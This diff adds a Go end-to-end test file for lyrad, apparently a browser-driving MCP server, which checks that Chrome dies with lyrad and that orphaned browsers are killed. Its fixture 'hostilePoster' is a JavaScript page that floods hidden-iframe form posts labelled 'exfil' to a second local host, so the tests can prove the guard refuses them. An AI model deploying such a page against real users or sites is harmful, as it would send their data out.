@@ -1,0 +1,383 @@
+package e2e
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/lyrad/lyrad/chrome"
+)
+
+// Chrome must never outlive lyrad: when lyrad dies (SIGKILL, a panic) or is
+// told to stop (SIGHUP), the browser and every helper go with it, a page
+// that posts a refused form every 4 ms gets (next to) nothing out, and the
+// next lyrad on the same data directory opens a fresh, guarded browser.
+
+// sink counts the posts reaching it and when each arrived.
+type sink struct {
+	mu sync.Mutex
+	at []time.Time
+}
+
+func (s *sink) handler(w http.ResponseWriter, r *http.Request) {
+	s.mu.Lock()
+	s.at = append(s.at, time.Now())
+	s.mu.Unlock()
+	w.WriteHeader(204)
+}
+
+// since counts the posts that arrived at or after t.
+func (s *sink) since(t time.Time) int {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	n := 0
+	for _, a := range s.at {
+		if !a.Before(t) {
+			n++
+		}
+	}
+	return n
+}
+
+func (s *sink) total() int { return s.since(time.Time{}) }
+
+// hostilePoster: every 4 ms a new form posts to action, each into the next
+// of 8 hidden iframes, so that several posts are held by the guard at any
+// moment and a release of them all at once would be seen.
+func hostilePoster(action string) string {
+	return fmt.Sprintf(`<!doctype html><title>poster</title><body><script>
+let n = 0;
+setInterval(() => {
+  const name = "f" + (n++ %% 8);
+  let fr = document.getElementsByName(name)[0];
+  if (!fr) { fr = document.createElement("iframe"); fr.name = name; fr.style.display = "none"; document.body.appendChild(fr); }
+  const f = document.createElement("form");
+  f.method = "post"; f.action = %q; f.target = name;
+  const i = document.createElement("input"); i.name = "x"; i.value = "exfil"; f.appendChild(i);
+  document.body.appendChild(f); f.submit(); f.remove();
+}, 4);
+</script></body>`, action)
+}
+
+// victim is one lyrad whose end is under test, and a client on it.
+type victim struct {
+	pid int
+	cs  *mcp.ClientSession
+}
+
+// startVictim runs bin on dir as `lyrad stdio` (serving in-process) or as
+// `lyrad serve`, reached through a `lyrad stdio` relay.
+func startVictim(t *testing.T, bin, dir, mode string) *victim {
+	t.Helper()
+	logf, err := os.OpenFile(filepath.Join(t.TempDir(), "lyrad.log"), os.O_CREATE|os.O_WRONLY, 0o600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { logf.Close() })
+	switch mode {
+	case "stdio":
+		cmd := exec.Command(bin, "stdio")
+		cmd.Env = baseEnv(dir)
+		cmd.Stderr = logf
+		c := mcp.NewClient(&mcp.Implementation{Name: "e2e-death", Version: "1"}, nil)
+		cs, err := c.Connect(t.Context(), &mcp.CommandTransport{Command: cmd}, sessionOpts(proto2026))
+		if err != nil {
+			t.Fatalf("connect over stdio: %v", err)
+		}
+		t.Cleanup(func() { cs.Close() })
+		return &victim{pid: cmd.Process.Pid, cs: cs}
+	case "serve":
+		cmd := exec.Command(bin, "serve")
+		cmd.Env = baseEnv(dir)
+		cmd.Stderr = logf
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		go cmd.Wait() // reaps it whichever way it ends
+		t.Cleanup(func() { _ = cmd.Process.Kill() })
+		waitFor(t, "lyrad serve's socket", 15*time.Second, func() bool {
+			c, err := net.Dial("unix", filepath.Join(dir, "lyrad.sock"))
+			if err == nil {
+				c.Close()
+			}
+			return err == nil
+		})
+		return &victim{pid: cmd.Process.Pid, cs: connectStdio(t, dir, proto2026)}
+	}
+	t.Fatalf("unknown mode %q", mode)
+	return nil
+}
+
+// profileProcs lists the live processes (browser and helpers) running on
+// the data dir's persistent profile.
+func profileProcs(dataDir string) []int {
+	needle := "--user-data-dir=" + filepath.Join(dataDir, "profile")
+	ents, _ := os.ReadDir("/proc")
+	var pids []int
+	for _, e := range ents {
+		pid, err := strconv.Atoi(e.Name())
+		if err != nil {
+			continue
+		}
+		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+		if err != nil {
+			continue
+		}
+		// Helpers rewrite their command line into one string with
+		// spaces; the browser keeps its NUL-separated argv.
+		cmdline := strings.ReplaceAll(string(b), "\x00", " ") + " "
+		if strings.Contains(cmdline, needle+" ") && alive(pid) {
+			pids = append(pids, pid)
+		}
+	}
+	return pids
+}
+
+// killProfileProcs is the cleanup for a run that left a browser behind:
+// never leave one posting on a shared machine.
+func killProfileProcs(dataDir string) {
+	for _, pid := range profileProcs(dataDir) {
+		_ = syscall.Kill(pid, syscall.SIGKILL)
+	}
+}
+
+var (
+	panicBinOnce sync.Once
+	panicBin     string
+	panicBinErr  error
+)
+
+// lyradPanicBuild builds lyrad with the lyrad_testpanic tag: it panics in a
+// goroutine on SIGUSR1.
+func lyradPanicBuild(t *testing.T) string {
+	t.Helper()
+	panicBinOnce.Do(func() {
+		panicBin = filepath.Join(filepath.Dir(lyradBin), "lyrad-testpanic")
+		out, err := exec.Command("go", "build", "-tags", "lyrad_testpanic", "-o", panicBin, "../cmd/lyrad").CombinedOutput()
+		if err != nil {
+			panicBinErr = fmt.Errorf("%v: %s", err, out)
+		}
+	})
+	if panicBinErr != nil {
+		t.Fatalf("building the panicking lyrad: %v", panicBinErr)
+	}
+	return panicBin
+}
+
+// guardedPoster opens the browser on v, shows it is fresh and guarded (a
+// hostile page's posts are refused and reach nobody), and returns the
+// browser's pid.
+func guardedPoster(t *testing.T, v *victim, dir string, a *site, b *site, sk *sink, tag string) {
+	t.Helper()
+	env := call(t, v.cs, "open_browser", nil)
+	wantStatus(t, env, "ok")
+	if env["already_open"] != false || env["profile"] != "persistent" {
+		t.Fatalf("%s: open_browser did not start a fresh browser on the persistent profile: %v", tag, env)
+	}
+	path := "/sink-" + tag
+	b.handle(path, sk.handler)
+	a.page("/poster-"+tag, hostilePoster(b.URL+path))
+	before := sk.total()
+	wantStatus(t, call(t, v.cs, "navigate", map[string]any{"url": a.URL + "/poster-" + tag}), "ok")
+	refused := func() int {
+		n := 0
+		for _, r := range auditRows(t, dir) {
+			if r["kind"] == "guard" && r["verdict"] == "deny" && strings.HasSuffix(fmt.Sprint(r["request_url"]), path) {
+				n++
+			}
+		}
+		return n
+	}
+	for deadline := time.Now().Add(30 * time.Second); refused() < 20; time.Sleep(50 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatalf("%s: the poster's posts were not refused 20 times within 30 s (%d refused, %d reached the sink)", tag, refused(), sk.total()-before)
+		}
+	}
+	if got := sk.total() - before; got != 0 {
+		t.Fatalf("%s: %d posts reached the sink while the guard stood", tag, got)
+	}
+}
+
+// deathRuns: 3 runs on one data dir, alternating stdio and serve; each run
+// opens the browser (so runs 2 and 3, and a last open, prove the directory
+// usable after a death), starts the poster, ends lyrad with end, and
+// measures what got out and how long the browser lived on.
+func deathRuns(t *testing.T, kind string, bin string, end func(t *testing.T, v *victim, dir string)) {
+	needBrowser(t)
+	dir := t.TempDir()
+	t.Cleanup(func() { killProfileProcs(dir) })
+	a := newSite(t, "127.0.0.1")
+	b := newSite(t, "127.0.0.2")
+	sk := &sink{}
+	modes := []string{"stdio", "serve", "stdio"}
+	var totalAfter int
+	for run, mode := range modes {
+		tag := fmt.Sprintf("%s-%d-%s", kind, run+1, mode)
+		v := startVictim(t, bin, dir, mode)
+		guardedPoster(t, v, dir, a, b, sk, tag)
+		procs := profileProcs(dir)
+		at := time.Now()
+		end(t, v, dir)
+		gone := time.Duration(-1)
+		for deadline := at.Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
+			if len(profileProcs(dir)) == 0 {
+				gone = time.Since(at)
+				break
+			}
+		}
+		// Stragglers a released request would send arrive within this.
+		time.Sleep(time.Second)
+		after := sk.since(at)
+		totalAfter += after
+		left := profileProcs(dir)
+		goneMsg := "not within 10 s"
+		if gone >= 0 {
+			goneMsg = gone.Round(time.Millisecond).String()
+		}
+		t.Logf("%s: %d browser processes; all gone after %s; %d posts reached the sink after the end; %d processes left", tag, len(procs), goneMsg, after, len(left))
+		// 1 s is the target; a loaded 2-core machine gets a margin.
+		if gone < 0 || gone > 3*time.Second {
+			killProfileProcs(dir)
+			t.Fatalf("%s: the browser outlived lyrad (%d processes left after %v)", tag, len(left), time.Since(at).Round(time.Millisecond))
+		}
+	}
+	if totalAfter > 1 {
+		t.Errorf("%s: %d posts reached the sink after lyrad ended (at most 1 in 3 runs)", kind, totalAfter)
+	}
+	// The directory is usable: a fresh, guarded browser.
+	v := startVictim(t, lyradBin, dir, "stdio")
+	guardedPoster(t, v, dir, a, b, sk, kind+"-after")
+	wantStatus(t, call(t, v.cs, "close_browser", nil), "ok")
+}
+
+func TestBrowserDiesWithKilledLyrad(t *testing.T) {
+	deathRuns(t, "sigkill", lyradBin, func(t *testing.T, v *victim, dir string) {
+		if err := syscall.Kill(v.pid, syscall.SIGKILL); err != nil {
+			t.Fatal(err)
+		}
+	})
+}
+
+func TestBrowserDiesWithPanickingLyrad(t *testing.T) {
+	deathRuns(t, "panic", lyradPanicBuild(t), func(t *testing.T, v *victim, dir string) {
+		if err := syscall.Kill(v.pid, syscall.SIGUSR1); err != nil {
+			t.Fatal(err)
+		}
+	})
+}
+
+// SIGHUP (the terminal closed) is a graceful stop: the browser closed, the
+// audit says so, the lock released (the next run gets the persistent
+// profile, not an instance).
+func TestSIGHUPClosesBrowser(t *testing.T) {
+	deathRuns(t, "sighup", lyradBin, func(t *testing.T, v *victim, dir string) {
+		before := auditShutdowns(t, dir)
+		if err := syscall.Kill(v.pid, syscall.SIGHUP); err != nil {
+			t.Fatal(err)
+		}
+		waitFor(t, "lyrad to exit on SIGHUP", 15*time.Second, func() bool { return !alive(v.pid) })
+		// Both rows may come: the session ends as the front door closes.
+		if got := auditShutdowns(t, dir); got <= before {
+			var rows []string
+			for _, r := range auditRows(t, dir) {
+				if r["kind"] != "guard" {
+					rows = append(rows, jsonString(r))
+				}
+			}
+			t.Errorf("SIGHUP: no audit row for the browser closed in order; audit rows but the guard's:\n%s", strings.Join(rows, "\n"))
+		}
+	})
+}
+
+// auditShutdowns counts the audit's rows for an orderly end of the
+// browser: closed at shutdown, or handed on when the client's session
+// ended first (the front door closes before the browser).
+func auditShutdowns(t *testing.T, dir string) int {
+	n := 0
+	for _, r := range auditRows(t, dir) {
+		if r["kind"] == "browser" && r["status"] == "closed" && r["reason"] == "shutdown" ||
+			r["kind"] == "session" && r["status"] == "handoff" {
+			n++
+		}
+	}
+	return n
+}
+
+// TestOrphanKilledBeforeLaunch: a browser an earlier lyrad left running on
+// the data dir (one that died where no parent-death signal reaches, or an
+// older lyrad), recorded in its pid file and posting unguarded, is killed
+// with its helpers by the next open_browser, which then opens a fresh,
+// guarded browser on the same profile.
+func TestOrphanKilledBeforeLaunch(t *testing.T) {
+	needBrowser(t)
+	dir := t.TempDir()
+	t.Cleanup(func() { killProfileProcs(dir) })
+	a := newSite(t, "127.0.0.1")
+	b := newSite(t, "127.0.0.2")
+	orphanSink := &sink{}
+	b.handle("/sink-orphan", orphanSink.handler)
+	a.page("/poster-orphan", hostilePoster(b.URL+"/sink-orphan"))
+
+	// The earlier lyrad: the profile lock, a browser recorded in the pid
+	// file, then the lock let go as a dying process lets it go.
+	found, err := chrome.Find("", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	prof, release, err := chrome.AcquireProfile(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	orphan, err := chrome.Launch(t.Context(), chrome.LaunchOptions{Path: found.Path, ProfileDir: prof.Dir, Headless: true,
+		PIDFile: prof.PIDFile, StartURL: a.URL + "/poster-orphan"})
+	if err != nil {
+		release()
+		t.Fatal(err)
+	}
+	t.Cleanup(orphan.Kill)
+	release()
+	waitFor(t, "the orphan's unguarded posts", 30*time.Second, func() bool { return orphanSink.total() >= 5 })
+	procs := len(profileProcs(dir))
+
+	v := startVictim(t, lyradBin, dir, "stdio")
+	start := time.Now()
+	guardedPoster(t, v, dir, a, b, &sink{}, "after-orphan")
+	select {
+	case <-orphan.Done():
+	default:
+		t.Fatalf("the orphan (pid %d) still runs after open_browser", orphan.PID())
+	}
+	for _, pid := range profileProcs(dir) {
+		st, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+		if f := strings.Fields(string(st[strings.LastIndexByte(string(st), ')')+1:])); len(f) > 2 && f[2] == strconv.Itoa(orphan.PID()) {
+			t.Errorf("a helper of the orphan (pid %d) outlived it", pid)
+		}
+	}
+	settled := time.Now()
+	time.Sleep(time.Second)
+	t.Logf("orphan: %d processes, %d unguarded posts before; killed by the open_browser that returned after %v; %d posts after it", procs, orphanSink.since(time.Time{}), settled.Sub(start).Round(time.Millisecond), orphanSink.since(settled))
+	if n := orphanSink.since(settled); n != 0 {
+		t.Errorf("%d orphan posts after the new browser opened", n)
+	}
+	var audited bool
+	for _, r := range auditRows(t, dir) {
+		if r["kind"] == "browser" && r["status"] == "orphan_killed" && r["pid"] == float64(orphan.PID()) {
+			audited = true
+		}
+	}
+	if !audited {
+		t.Error("no audit row for the orphan killed")
+	}
+	wantStatus(t, call(t, v.cs, "close_browser", nil), "ok")
+}
